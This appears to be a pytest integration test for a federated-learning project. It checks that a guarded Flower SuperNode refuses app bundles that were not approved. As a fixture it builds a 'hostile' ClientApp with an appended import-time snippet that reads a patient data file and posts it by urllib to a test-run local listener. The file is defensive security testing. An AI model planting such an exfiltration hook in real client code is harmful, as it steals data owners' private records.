"""Real SuperLink, SuperNodes and app bundles: whose code runs at the data owner?

The hostile bundle is the release with a few lines more in its ClientApp, which read the data file and post it; name
and version are the release's. Its ServerApp, and that of the honest bundle, asks every node one question of the
wire (``query.hello``) and writes down the replies.
"""

from __future__ import annotations

import contextlib
import http.client
import http.server
import json
import os
import shutil
import signal
import socket
import subprocess
import sysconfig
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

import ot_federated
from ot_federated.data_owner.audit_trail import Entry, read_trail

pytestmark = [pytest.mark.slow, pytest.mark.skipif(os.name != "posix", reason="ends processes by POSIX signals")]

checkout = Path(ot_federated.__file__).parents[1]
secret = "patient 4711: secret diagnosis"

# The ServerApp of both bundles. It asks what the release's client answers without a model: hello, with no manifest.
server_app = """
import json, time
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()

@app.main()
def main(grid, context):
    deadline = time.monotonic() + 60
    while not (nodes := list(grid.get_node_ids())) and time.monotonic() < deadline:
        time.sleep(0.1)
    content = RecordDict({"config": ConfigRecord({"wire-version": 2})})
    replies = grid.send_and_receive([Message(content, node, "query.hello") for node in nodes], timeout=60)
    told = [
        reply.error.reason if reply.has_error() else reply.content.config_records["config"]["reason"]
        for reply in replies
    ]
    Path(context.run_config["output-dir"]).write_text(json.dumps(told))
"""
# At import: no message is needed for it.
theft = """
def _steal():
    import os, urllib.request
    urllib.request.urlopen(os.environ["TEST_LISTENER"], data=open(os.environ["TEST_DATA"], "rb").read())
_steal()
"""


def copy_release(target: Path, *, client_code: str = "") -> Path:
    """Copy the release into a checkout of its own with the ServerApp above, and ``client_code`` in its ClientApp."""
    target.mkdir(parents=True)
    for name in ("ot_federated", "strategies"):
        shutil.copytree(checkout / name, target / name, ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("README.md", "LICENSE"):
        shutil.copyfile(checkout / name, target / name)
    (target / "ot_federated" / "question.py").write_text(server_app)
    text = (checkout / "pyproject.toml").read_text()
    assert "ot_federated.model_owner.server_app:app" in text
    (target / "pyproject.toml").write_text(
        text.replace("ot_federated.model_owner.server_app:app", "ot_federated.question:app")
    )
    client = target / "ot_federated" / "data_owner" / "client_app.py"
    client.write_text(client.read_text() + client_code)
    return target


class Deployment:
    """A SuperLink on a free port, a listener for stolen data, and what is started beside them."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.stolen: list[str] = []
        self.data = root / "ward" / "patients.jsonl"
        self.data.parent.mkdir(parents=True)
        self.data.write_text(json.dumps({"question": secret}) + "\n")
        self.honest = copy_release(root / "honest" / "ot-federated")
        self.hostile = copy_release(root / "hostile" / "ot-federated", client_code=theft)
        self.approved = root / "owner" / "approved.json"
        self.trail = root / "owner" / "trail.jsonl"
        stolen = self.stolen

        class Listener(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                stolen.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
                self.send_response(204)
                self.end_headers()

            def log_message(self, *arguments: Any) -> None: ...

        self.listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
        threading.Thread(target=self.listener.serve_forever, daemon=True).start()
        self.environment = {
            **os.environ,
            "PATH": os.pathsep.join([sysconfig.get_path("scripts"), os.environ["PATH"]]),
            "FLWR_HOME": str(root / "flower"),
            "FLWR_TELEMETRY_ENABLED": "0",
            "FLWR_DISABLE_UPDATE_CHECK": "1",
            "FLWR_DISABLE_RUNTIME_DEPENDENCY_INSTALLATION": "1",
            "FLWR_SUPEREXEC_TASK_POLL_INTERVAL": "0.1",
            "XDG_STATE_HOME": str(root / "state"),
            "OT_FEDERATED_TRAIL": str(self.trail),
            "PYTHONUNBUFFERED": "1",
            "TEST_LISTENER": f"http://127.0.0.1:{self.listener.server_port}/",
            "TEST_DATA": str(self.data),
        }
        self.port = find_free_port()
        self.num_runs = 0
        (root / "flower").mkdir()
        (root / "flower" / "config.toml").write_text(
            f'[superlink]\ndefault = "test"\n\n[superlink.test]\naddress = "127.0.0.1:{self.port}"\ninsecure = true\n'
        )

    def execute(self, *command: str) -> subprocess.CompletedProcess[str]:
        """Run a command to its end, in a neutral directory."""
        return subprocess.run(
            command,
            cwd=self.root,
            env=self.environment,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )

    @contextlib.contextmanager
    def process(self, name: str, command: Sequence[str]) -> Iterator[Path]:
        """Keep a process running; yields the file of its output. Ends it as an operator would, by SIGTERM."""
        log = self.root / f"{name}.log"
        with log.open("wb") as output:
            process = subprocess.Popen(
                command,
                cwd=self.root,
                env=self.environment,
                stdin=subprocess.DEVNULL,
                stdout=output,
                stderr=subprocess.STDOUT,
                start_new_session=True,
            )
        try:
            yield log
        finally:
            process.terminate()
            try:
                process.wait(timeout=20)
            except subprocess.TimeoutExpired:
                os.killpg(process.pid, signal.SIGKILL)
                process.wait(timeout=20)

    def supernode(
        self, *command: str, name: str, options: Sequence[str] = (), port: int = 0
    ) -> contextlib.AbstractContextManager[Path]:
        data = f'data-path="{self.data}" name="ward-7"'
        arguments = ["--insecure", "--superlink", f"127.0.0.1:{self.port}", "--node-config", data]
        arguments += ["--host", "127.0.0.1", "--port", str(port or find_free_port())]
        return self.process(name, [*command, *arguments, *options])

    def guarded(self, name: str, *options: str, port: int = 0) -> contextlib.AbstractContextManager[Path]:
        command = ["ot-federated", "supernode", "--approved", str(self.approved)]
        return self.supernode(*command, name=name, options=options, port=port)

    def run(self, app: Path) -> list[str]:
        """Submit a run and return the replies of the nodes."""
        self.num_runs += 1
        output = self.root / f"replies-{self.num_runs}.json"
        shown = self.execute("flwr", "run", str(app), "test", "--run-config", f'output-dir="{output}"')
        assert shown.returncode == 0, shown.stdout + shown.stderr
        wait_until(output.is_file, seconds=60, what=lambda: self.logs())
        return json.loads(output.read_text())

    def logs(self) -> str:
        return "\n".join(f"== {log.name}\n{log.read_text()}" for log in sorted(self.root.glob("*.log")))


def find_free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def wait_until(condition: Callable[[], object], *, seconds: float, what: Callable[[], str]) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, what()
        time.sleep(0.1)


def is_healthy(port: int) -> bool:
    with contextlib.suppress(OSError, http.client.HTTPException):
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=1.0)
        connection.request("GET", "/health")
        return connection.getresponse().status == http.client.OK
    return False


@pytest.fixture(scope="module")
def deployment(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deployment]:
    found = Deployment(tmp_path_factory.mktemp("deployment"))
    command = ["flower-superlink", "--insecure", "--host", "127.0.0.1", "--port", str(found.port)]
    with found.process("superlink", command):
        wait_until(lambda: is_healthy(found.port), seconds=60, what=found.logs)
        yield found
    found.listener.shutdown()


def approve(deployment: Deployment, *options: str) -> str:
    done = deployment.execute("ot-federated", "approve", "--approved", str(deployment.approved), *options)
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def test_flowers_own_supernode_lets_a_dishonest_owner_take_the_data(deployment: Deployment) -> None:
    """The danger, shown: without this project's SuperNode the attack works, so the tests below can fail."""
    with deployment.supernode("flower-supernode", name="plain"):
        deployment.run(deployment.hostile)
    assert any(secret in text for text in deployment.stolen)


def test_approved_code_runs_and_other_code_of_the_same_name_does_not(deployment: Deployment) -> None:
    num_stolen = len(deployment.stolen)
    shown = approve(deployment, str(deployment.honest), "--yes", "--differing")
    assert "ADDED    ot_federated/question.py" in shown
    with deployment.guarded("guarded") as log:
        (told,) = deployment.run(deployment.hostile)
        assert "runs approved code only" in told
        # The node is alive for the runs that are approved, and the release's own code answers.
        (told,) = deployment.run(deployment.honest)
        assert "has no manifest" in told
        (digest,) = (line.split()[1] for line in shown.splitlines() if line.startswith("sha256 "))
        approve(deployment, "--revoke", digest)
        (told,) = deployment.run(deployment.honest)
        assert digest in told
        text = log.read_text()
    assert deployment.stolen[num_stolen:] == []
    statuses = [entry.status for entry in read_trail(deployment.trail) if isinstance(entry, Entry)]
    assert statuses[-3:] == ["refused", "error", "refused"]
    # The data owner is told, and can look into what was sent.
    first, second = (line for line in text.splitlines() if "REFUSED" in line)
    assert digest in second
    path = first.rpartition("ot-federated approve ")[2]
    shown = deployment.execute("ot-federated", "approve", path, "--diff").stdout
    assert "CHANGED  ot_federated/data_owner/client_app.py" in shown
    assert '+    urllib.request.urlopen(os.environ["TEST_LISTENER"]' in shown
    # Nothing that was extracted for ClientApps is left behind.
    assert list((deployment.root / "state" / "ot-federated" / "supernodes").iterdir()) == []


def test_isolation_process_gets_approved_code_alone(deployment: Deployment) -> None:
    """The process that runs ClientApps is started by somebody else: it can have no code but from the SuperNode."""
    num_stolen, port = len(deployment.stolen), find_free_port()
    approve(deployment, str(deployment.honest), "--yes", "--differing")
    superexec = ["flower-superexec", "--insecure", "--runtime-api-address", f"127.0.0.1:{port}"]
    with (
        deployment.guarded("isolated", "--isolation", "process", port=port),
        deployment.process("superexec", superexec),
    ):
        (told,) = deployment.run(deployment.hostile)
        assert "runs approved code only" in told
        (told,) = deployment.run(deployment.honest)
        assert "has no manifest" in told
    assert deployment.stolen[num_stolen:] == []


def test_options_that_bring_in_other_code_are_refused(deployment: Deployment) -> None:
    done = deployment.execute("ot-federated", "supernode", "--insecure", "--allow-runtime-dependency-installation")
    assert done.returncode == 1
    assert "packages that nobody approved" in done.stderr
